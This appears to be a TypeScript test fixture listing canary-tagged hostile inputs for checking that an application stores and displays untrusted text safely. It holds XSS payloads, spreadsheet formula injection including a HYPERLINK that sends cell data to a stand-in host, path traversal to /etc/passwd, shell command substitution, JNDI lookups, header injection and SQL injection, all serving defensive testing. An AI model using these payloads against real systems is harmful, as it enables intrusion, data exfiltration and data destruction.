/* What attackers type into fields. Every text holds the marker, so that it is found again where it must not be. */

export const marker = 'c4n4ry'

/** Markup and addresses that would run if text were treated as a page. */
export const scripts = [
  '<script>window.hacked="c4n4ry"</script>',
  '<img src=x onerror=window.hacked="c4n4ry">',
  '"><svg/onload=window.hacked="c4n4ry">',
  "' autofocus onfocus=window.hacked='c4n4ry' x='",
  '</textarea></title></style></script><script>window.hacked="c4n4ry"</script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">c4n4ry',
  '<a href="javascript:window.hacked=1">c4n4ry</a>',
  'javascript:window.hacked="c4n4ry"//',
  'data:text/html,<script>window.hacked="c4n4ry"</script>',
  '<base href="https://c4n4ry.example/">',
  '<style>@import "https://c4n4ry.example/x.css"; * { display: none }</style>',
  '<form action="https://c4n4ry.example/"><input name=password></form>',
  '<!--c4n4ry <![CDATA[ --> ]]> <math><mtext></table><mglyph><style><img src=x onerror=window.hacked=1>',
  '{{constructor.constructor("window.hacked=1")()}} c4n4ry',
  '&lt;c4n4ry&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e',
] as const

/** What a spreadsheet works out. */
export const formulas = [
  '=HYPERLINK("https://c4n4ry.example/?"&A1,"Open")',
  "+c4n4ry+cmd|' /C calc'!A0",
  '-2+3+c4n4ry',
  '@SUM(1+1)*c4n4ry',
  '"=c4n4ry',
  '＝1+c4n4ry',
  '%0A=c4n4ry',
] as const

/** What becomes a file name, a path, a command or a template. */
export const paths = [
  '../../../../../../etc/passwd#c4n4ry',
  '..\\..\\..\\windows\\win.ini c4n4ry',
  '/dev/null/c4n4ry',
  'file:///etc/passwd?c4n4ry',
  '%2e%2e%2f%2e%2e%2fc4n4ry',
  'CON c4n4ry. ',
  "c4n4ry.pdf\"; filename*=UTF-8''evil.exe",
  '$(touch c4n4ry) `touch c4n4ry` ; touch c4n4ry | tee c4n4ry',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a template is what is tested
  '${jndi:ldap://c4n4ry.example/a} #{7*7} <%= 7*7 %> %s%n%x',
  '{{contact:email}} $& $1 $` c4n4ry',
] as const

/** What ends a header, or looks as if it had. Those with real line ends are refused where one line is asked for. */
export const headers = [
  'c4n4ry\r\nBcc: everybody@evil.example',
  'c4n4ry\nSubject: yours',
  'c4n4ry%0d%0aSet-Cookie: session=1',
  '=?utf-8?Q?c4n4ry=0D=0ABcc:_everybody@evil.example?=',
  'c4n4ry" <everybody@evil.example>, "',
  'c4n4ry, everybody@evil.example; everybody@evil.example',
  'c4n4ry\\u000d\\u000aBcc: x (comment) [127.0.0.1]',
] as const

/** What a database would take for its own. */
export const statements = [
  "c4n4ry'; DROP TABLE clients; --",
  "' OR '1'='1' /* c4n4ry",
  'c4n4ry") UNION SELECT password_hash FROM employees --',
  "c4n4ry\\'; SELECT pg_sleep(9); --",
  '%_\\%c4n4ry\\',
  '$1 $2 ? :id @id c4n4ry',
  "c4n4ry', $gt: '', '$where': '1",
] as const

/** Letters that grow, shrink, turn round or vanish. */
export const letters = [
  '\u202bc4n4ry\u202c \u2066مريم\u2069',
  'مريم c4n4ry',
  'c\u0334\u0321\u0359\u03524\u0335\u031d\u030en\u0337\u0353\u030e4ry',
  '\ufeff\u200b\u200dc4n4ry\u00ad\u2060',
  '👩‍👩‍👧‍👦🏳️‍🌈🙂 c4n4ry',
  'ﷺﷺﷺ㌖㌫㍍ c4n4ry ﬃ İ ı ß ẞ K',
  'c4n4ry\u2028line\u2029paragraph',
  'Nhà 5, 東京 — “c4n4ry” \u{e0041}\u{10fffd}\ue000',
  'c4n4ryWithoutAnyPlaceToBreakTheLineAtAllHowEverNarrowTheScreenMayBeOnWhichItIsShown',
] as const

/** What no text can hold, or no text on one line. */
export const unstorable = [
  'c4n4ry\u0000',
  'c4n4ry\ud800',
  '\udfffc4n4ry',
  'c4n4ry\u0007\u001b[2J\u009b',
  '\u001b]0;c4n4ry\u0007',
  'c4n4ry\u0085\u000b\u000c',
  '\u202ec4n4ry\u202c',
] as const

export const injectedTexts: readonly string[] = [
  ...scripts,
  ...formulas,
  ...paths,
  ...headers,
  ...statements,
  ...letters,
  ...unstorable,
]

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is left out
const control = /[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/

/** Those that a field of one line has to take, and to give back as they are. */
export const storableLines: readonly string[] = injectedTexts.filter(
  (text) => !control.test(text) && text.isWellFormed() && text === text.trim(),
)
